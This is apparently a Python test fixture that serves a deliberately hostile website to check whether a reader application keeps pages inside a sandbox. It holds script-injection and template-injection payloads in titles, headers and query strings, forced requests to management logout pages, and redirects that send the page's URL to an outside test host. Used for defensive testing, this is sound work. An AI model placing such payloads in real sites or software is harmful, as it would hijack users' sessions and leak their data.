"""A site whose pages try to escape their sandbox: to the reader's session, to the management pages, to the web."""

from __future__ import annotations

import json
from html import escape
from pathlib import Path

from tests.sites.server import Answer, Web

TITLE = """<script>window.stung='title'</script><img src=x onerror="window.stung='title'">{{7*7}}"""
HEADER = "<script>window.stung='header'</script><img src=x onerror=window.stung='header'>"
QUERY = "/page.html?q='+(window.stung='url')+'{{7*7}}"

ATTACKS = (Path(__file__).parent / "hostile.js").read_text(encoding="utf-8")

STATIC = """
<link rel=preconnect href="%(silent)s"><link rel=prefetch href="%(silent)s"><link rel=dns-prefetch href="%(silent)s">
<link rel=stylesheet href="%(network)sstatic.css"><link rel=preload as=image href="%(network)sstatic-preload">
<img src="%(network)sstatic.png" srcset="%(network)sstatic-2.png 2x"><img src="%(management)slogout">
<iframe src="%(network)sstatic-frame"></iframe><iframe name=hidden></iframe><embed src="%(network)sstatic-embed">
<style>body { background: url(%(network)sstatic-background) }
@font-face { font-family: x; src: url(%(network)sstatic-font) }
p { font-family: x }</style><script src="%(network)sstatic.js"></script>
<svg><image href="%(network)sstatic-svg" /><use href="%(network)sstatic.svg#x" /></svg>
<video src="%(network)sstatic-video" poster="%(network)sstatic-poster"></video>
<form id=form action="%(management)slogout" method=get></form>
<p><a id=out href="%(network)sfollowed" target=_top>out</a> <a href="page.html">in</a></p>
"""


class HostileWeb(Web):
    """A page that attacks, one that navigates its own frame away, and a target of navigation."""

    def __init__(self, network: str, silent: str, management: str, stun: int) -> None:
        places = {"network": network, "silent": silent, "management": f"{management}/", "stun": stun}
        self.attacks = f"const PLACES = {json.dumps(places)};\n{ATTACKS}"
        headers = {
            "X-Stung": HEADER,
            "Set-Cookie": "stung=1; Path=/",
            "Refresh": f"0; url={network}refresh-header",
            "Link": f"<{network}link-header>; rel=preload; as=image",
            "Content-Security-Policy": "default-src *",
            "Access-Control-Allow-Origin": "*",
            "Service-Worker-Allowed": "/",
        }
        attack = f"<!doctype html><title>{escape(TITLE)}</title>{STATIC % places}<script>{self.attacks}</script>"
        away = f'<!doctype html><title>Away</title><meta http-equiv=refresh content="0; url={network}refresh">'
        led = (
            f"<!doctype html><title>Led</title><p>led<script>location.replace('{network}led?' + location.href)</script>"
        )
        links = f'<a href="away.html">away</a><a href="led.html">led</a><a href="{QUERY}">odd</a>'
        connect = f'<link rel=prefetch href="{silent}">'
        free = f"<!doctype html>{connect}<title>Free</title><body><script>{self.attacks}</script>"
        super().__init__(
            {
                "/robots.txt": Answer(status=404),
                "/": Answer(attack + links, headers=headers),
                "/free.html": Answer(free),
                "/page.html": Answer("<!doctype html><title>Page</title><p>a page"),
                "/away.html": Answer(f"{away}<p>away"),
                "/led.html": Answer(led),
            },
            fallback=Answer(f"<!doctype html><title>{escape(TITLE)}</title><p>odd", headers={"X-Stung": HEADER}),
        )
